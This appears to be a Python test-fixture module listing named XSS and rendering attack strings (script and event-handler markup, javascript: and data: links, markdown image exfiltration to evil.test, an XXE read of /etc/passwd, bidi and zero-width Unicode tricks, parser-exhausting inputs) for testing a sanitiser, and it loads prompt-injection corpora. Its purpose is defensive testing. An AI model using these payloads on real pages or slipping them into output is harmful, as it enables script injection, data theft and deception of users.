"""Attacks on the page, by name: what would run, fetch, restyle, navigate or deceive where a text became markup.

Whatever runs calls ``pwned``, and whatever is fetched is fetched from ``evil.test``; the page has neither. ``MARKUP``
is spelt as HTML, ``LINKS`` are targets, ``MARKDOWN`` is for the renderer, ``UNICODE`` for eyes and parsers.
"""

import json
from pathlib import Path
from typing import Any

ROOT = Path(__file__).parents[2]
CORPUS = ROOT.parent / "shared" / "data" / "injection"
EVIL = "https://evil.test"

MARKUP = {
    "script": "<script>pwned()</script>",
    "script elsewhere": f"<script src={EVIL}/a.js></script>",
    "script broken": "<scr<script>ipt>pwned()</scr</script>ipt>",
    "script in upper case": "<SCRIPT/SRC=//evil.test/b.js></SCRIPT>",
    "module": f'<script type="module">import "{EVIL}/c.js"</script>',
    "import map": f'<script type="importmap">{{"imports":{{"./main.js":"{EVIL}/d.js"}}}}</script>',
    "speculation": f'<script type="speculationrules">{{"prefetch":[{{"urls":["{EVIL}/e"]}}]}}</script>',
    "image": "<img src=x onerror=pwned()>",
    "image without an end": "<img src=x onerror=pwned() ",
    "image by slashes": "<img/src/onerror=pwned()>",
    "image set": f"<img srcset='{EVIL}/f.png 1x'>",
    "picture": f"<picture><source srcset={EVIL}/g.png><img></picture>",
    "vector": "<svg onload=pwned()>",
    "vector script": '<svg><script xlink:href="data:,pwned()"></script></svg>',
    "vector use": f'<svg><use href="{EVIL}/h.svg#x"/></svg>',
    "vector animation": '<svg><a><animate attributeName=href values="javascript:pwned()"/><text>x</text></a></svg>',
    "vector set": "<svg><set onbegin=pwned() attributeName=x></svg>",
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.pwned()</script>'></foreignObject></svg>",
    "formulas": '<math><maction actiontype="statusline" xlink:href="javascript:pwned()">x</maction></math>',
    "mutation by style": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=pwned()&gt;'>",
    "mutation by namespace": "<svg></p><style><a id='</style><img src=x onerror=pwned()>'>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    "mutation by template": "<template><style></template><img src=x onerror=pwned()></style>",
    "mutation by comment": "<!--><img src=x onerror=pwned()>-->",
    "mutation by cdata": "<svg><![CDATA[><img src=x onerror=pwned()>]]></svg>",
    "frame": "<iframe src=javascript:parent.pwned()></iframe>",
    "frame of text": "<iframe srcdoc='&lt;script&gt;parent.pwned()&lt;/script&gt;'></iframe>",
    "frame set": f"<frameset onload=pwned()><frame src={EVIL}/i></frameset>",
    "object": "<object data=javascript:pwned()></object>",
    "embed": f"<embed src={EVIL}/j.swf>",
    "portal": f"<portal src={EVIL}/k></portal>",
    "fenced frame": f"<fencedframe src={EVIL}/l></fencedframe>",
    "video": "<video src=x onerror=pwned()><source onerror=pwned()></video>",
    "audio": f"<audio src={EVIL}/m.mp3 autoplay onloadstart=pwned()>",
    "track": f"<video><track default src={EVIL}/n.vtt></video>",
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/o">',
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "base": f'<base href="{EVIL}/p/">',
    "style": f"<style>@import url({EVIL}/q.css); body{{display:none}}</style>",
    "style attribute": f"<p style=\"background:url({EVIL}/r.png);position:fixed;inset:0\">over it all</p>",
    "style sheet": f'<link rel="stylesheet" href="{EVIL}/s.css">',
    "prefetch": f'<link rel="prefetch" href="{EVIL}/t">',
    "look-up of a name": '<link rel="dns-prefetch" href="//evil.test">',
    "preconnect": f"<link rel=preconnect href={EVIL}>",
    "module preload": f"<link rel=modulepreload href={EVIL}/u.js>",
    "manifest": f"<link rel=manifest href={EVIL}/v.json>",
    "form": f'<form action="{EVIL}/w"><input name=key autofocus onfocus=pwned()><button>Go on</button></form>',
    "form action": "<button form=x formaction=javascript:pwned()>Continue</button>",
    "input": "<input autofocus onfocus=pwned()>",
    "password": "<input type=password name=password autocomplete=current-password>",
    "details": "<details open ontoggle=pwned()>x</details>",
    "dialog": "<dialog open>Your session has ended: <input></dialog>",
    "popover": "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=pwned()>x</div>",
    "anchor": "<div style=position-anchor:--a anchor=question onfocus=pwned() tabindex=0>x</div>",
    "commands": "<button commandfor=question command=show-modal>x</button>",
    "shadow": "<div><template shadowrootmode=open><script>pwned()</script></template></div>",
    "slot": "<slot onslotchange=pwned()><b>x</b></slot>",
    "custom element": "<x-pwned onconnected=pwned() is=script>x</x-pwned>",
    "content editable": "<b contenteditable onbeforeinput=pwned() autofocus>x</b>",
    "marquee": "<marquee onstart=pwned()>x</marquee>",
    "body": "<body onload=pwned() onpageshow=pwned() background=//evil.test/x.png>",
    "pings": f'<a href="#" ping="{EVIL}/y">x</a>',
    "download": "<a href=data:text/html,x download=invoice.html>x</a>",
    "end of an area": "</textarea></title></style></script><img src=x onerror=pwned()>",
    "end of an attribute": "\" autofocus onfocus=\"pwned()\" x=\"' onmouseover='pwned()' `onclick=pwned()`",
    "entities": "&lt;img src=x onerror=pwned()&gt; &#60;script&#62;pwned()&#60;/script&#62; &amp;lt;b&amp;gt;",
    "escapes": "\\u003cscript\\u003epwned()\\u003c/script\\u003e \\x3cimg src=x onerror=pwned()\\x3e %3Cscript%3E",
    "template literal": "${pwned()} `${pwned()}` {{constructor.constructor('pwned()')()}} <%= pwned() %> #{pwned()}",
    "literal": "');pwned();//  \";pwned();//  */pwned()/*  -->",
    "names of the page": "<img id=question><form id=app name=innerHTML><input name=attributes></form>"
    "<a id=words name=fetch>",
    "names of the document": "<img name=body><form name=cookie></form><embed name=getElementById>",
    "instruction": "<?xml-stylesheet href='javascript:pwned()'?>"
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
}  # fmt: skip

# Targets in many spellings. Those of http and https may become links, which nobody clicks; no other may.
LINKS = (
    "javascript:pwned()", "JaVaScRiPt:pwned()", " javascript:pwned()", "\tjavascript:pwned()", "java\tscript:pwned()",
    "java\nscript:pwned()", "\x01javascript:pwned()", "javascript&colon;pwned()", "&#106;avascript:pwned()",
    "&#x6A;&#x61;vascript&#58;pwned()", "javascript&Tab;:pwned()", "javascript%3Apwned()", "jav\u200bascript:pwned()",
    "ｊａｖａｓｃｒｉｐｔ：pwned()", "javascript\u2028:pwned()", "\u00a0javascript:pwned()", "\\javascript:pwned()",
    "javascript://evil.test/%0Apwned()",
    "vbscript:pwned()", "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "blob:https://evil.test/x", "filesystem:https://evil.test/x", "view-source:https://evil.test", "file:///etc/passwd",
    "about:blank", "chrome://settings", "ms-word:ofe|u|https://evil.test", "tel:+15550100", "//evil.test/x",
    "\\\\evil.test\\x",
    "/\\evil.test/x", "https:evil.test", "https:\\\\evil.test", "http:///evil.test", "https://a@evil.test", "https://ａpple.test",
    "https://аpple.test/", "https://evil.test/?d=1&e=\"><script>pwned()</script>", "#/sessions/../../x",
    "?x=javascript:", "../../api",
    "/api/sessions", "/documents/../api/documents", "intent://evil.test#Intent;scheme=http;end",
)  # fmt: skip

MARKDOWN = {
    "image": f"![status]({EVIL}/p.png?d=secret)",
    "image by reference": f"![status][ref]\n\n[ref]: {EVIL}/q.png",
    "image in a link": f"[![a]({EVIL}/i.png)]({EVIL}/)",
    "link by reference": "[click here][1]\n\n[1]: javascript:pwned()",
    "autolink": f"<{EVIL}/a> <javascript:pwned()> <data:text/html,x> {EVIL}/b www.evil.test mailto:x@evil.test",
    "title of a link": "[x](https://ok.test 'a\" onmouseover=\"pwned()')",
    "target in brackets": "[x](<javascript:pwned()>)",
    "link in a link": "[a [b](javascript:pwned()) c](javascript:pwned())",
    "code": "`<script>pwned()</script>` and ``` ` ``<img src=x onerror=pwned()>",
    "fence": "```html\" onmouseover=pwned() x=\"\n<script>pwned()</script>\n```",
    "fence without an end": "```javascript:pwned()\n<img src=x onerror=pwned()>",
    "table": "| <script>pwned()</script> | [x](javascript:pwned()) |\n|:-:|---|\n| <img src=x onerror=pwned()> | b |",
    "task": "- [x] <input type=checkbox onclick=pwned()>\n- [ ] [x](javascript:pwned())",
    "heading": "# <img src=x onerror=pwned()> {#question .conversation onclick=pwned()}",
    "setext": "[x](javascript:pwned())\n===\n\n<b onclick=pwned()>x</b>\n---",
    "quote": "> <script>pwned()</script>\n> > [x](vbscript:pwned())",
    "footnote": "as it says.[^1]\n\n[^1]: <script>pwned()</script> [x](javascript:pwned())",
    "false marker": "as it says [1](javascript:pwned()) [^1] [ref:1] [1] 【1】 "
    "[SEG=00000000-0000-4000-8000-000000000000:0]",
    "front matter": "---\ntitle: <script>pwned()</script>\n---\n\nbody",
    "formula": "$$\\href{javascript:pwned()}{x}$$ \\(\\url{javascript:pwned()}\\) "
    "\\unicode{<img src=x onerror=pwned()>}",
    "formulas that lead away": "$\\href{javascript:pwned()}{x}$ \\(\\url{https://evil.test}\\) "
    "$\\includegraphics{https://evil.test/z.png}$",
    "formulas with a look": "$\\class{conversation}{x}$ $\\style{position:fixed;inset:0}{x}$ $\\id{question}{x}$",
    "formulas that are drawn": "$x = \\text{<img src=x onerror=pwned()>}$ \\(\\raisebox{900em}{y}\\) "
    "$\\rule{999em}{999em}$ $\\color{url(//evil.test)}z$",
    "formulas of macros": "$\\def\\a{\\a\\a}\\a$ \\(\\newcommand{\\b}{\\b}\\b\\)",
    "directive": "::iframe{src=javascript:pwned()} :::script\npwned()\n:::",
    "definition list": "term\n: <script>pwned()</script>",
    "abbreviation": "*[HTML]: <img src=x onerror=pwned()>\n\nHTML",
    "escaped": "\\<script\\>pwned()\\</script\\> \\[x\\](javascript:pwned())",
    "emphasis around markup": "**<img src=x onerror=pwned()>** _<svg onload=pwned()>_ ~~<b onclick=pwned()>~~",
}  # fmt: skip

UNICODE = {
    "right to left": "invoice\u202efdp.exe \u2067pwned()\u2069 \u200f(x)\u200e",
    "without width": "java\u200bscr\u200cipt\u200d:\u2060pwned()\ufeff<\u200bscript>",
    "wide brackets": "＜script＞pwned()＜/script＞ ‹img src=x onerror=pwned()› \uff1cb\uff1e",
    "tags": "read this\U000e0041\U000e0042\U000e007f",
    "piled marks": "Z" + "\u0351\u0317\u0345\u036a" * 40,
    "line separators": "one\u2028two\u2029three\u0085four",
    "private and unassigned": "\ue000\uf8ff\ufdd0\U0010fffe x",
    "variation": "❤\ufe0f\u200d\U0001f525 \U0001f468\u200d\U0001f469\u200d\U0001f467 1\ufe0f\u20e3",
    "interlinear": "\ufff9base\ufffaruby\ufffb \ufffc",
    "characters of the terminal": "\u001b[31mred\u001b]8;;https://evil.test\u0007x\u0000\u0008\u007f\u009b",
}
# JSON can spell half a character, which no text of the library can hold.
BROKEN = {"half a pair": "x\ud800y\udfffz", "half a pair at the end": "x\ud83d", "pair the wrong way": "\udc00\ud800"}

KEYS = ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "valueOf", "then")

EVERY = {
    **{f"markup: {name}": text for name, text in MARKUP.items()},
    **{f"markdown: {name}": text for name, text in MARKDOWN.items()},
    **{f"link: {at}": f"[read on]({target})" for at, target in enumerate(LINKS)},
    **{f"unicode: {name}": text for name, text in UNICODE.items()},
}


def marked(attacks: dict[str, str] = EVERY) -> list[str]:
    """Give each attack behind a word of its own, by which it can be found."""
    return [f"Kestrel{number} {text}" for number, text in enumerate(attacks.values(), 1)]


def deep(depth: int = 4000) -> list[str]:
    """Give texts that cost a careless parser its stack or an age."""
    return [
        "> " * depth + "quoted",
        "".join("  " * at + "- x\n" for at in range(depth // 20)),
        "*" * depth + "x" + "*" * depth,
        "*a **b " * depth,
        "_a __b ~~c " * depth,
        "[" * depth + "x" + "](y)" * depth,
        "![" * depth,
        "[a](" * depth,
        "`" * depth + "x",
        "".join("`" * at + " " for at in range(1, depth // 20)),
        "<" * depth + "a" + ">" * depth,
        "<!--" * depth,
        "&" * depth + "amp;" * depth,
        "|" * depth + "\n" + "|-" * depth,
        "\\" * depth,
        "1. " * depth,
        "#" * depth + " x",
        "\n" * depth + "x",
        "x" * 100_000,
        "[^1]" * depth,
        "https://" * depth,
        "(" * depth + ")" * depth,
        " " * depth + "x" + " " * depth,
        "- " * depth,
    ]


def corpus() -> list[str] | None:
    """Give every attack of the corpus that is kept beside the project, or nothing where it is not there."""
    if not CORPUS.is_dir():
        return None
    bastion = [json.loads(line) for line in (CORPUS / "bastion.jsonl").read_text("utf-8").splitlines() if line.strip()]
    planted: Any = json.loads((CORPUS / "bipia_text_attacks.json").read_text("utf-8"))
    groups = planted if isinstance(planted, list) else [planted]
    texts = [str(text) for group in groups for each in group.values() for text in each]
    return [*texts, *(str(row["text"]) for row in bastion)]
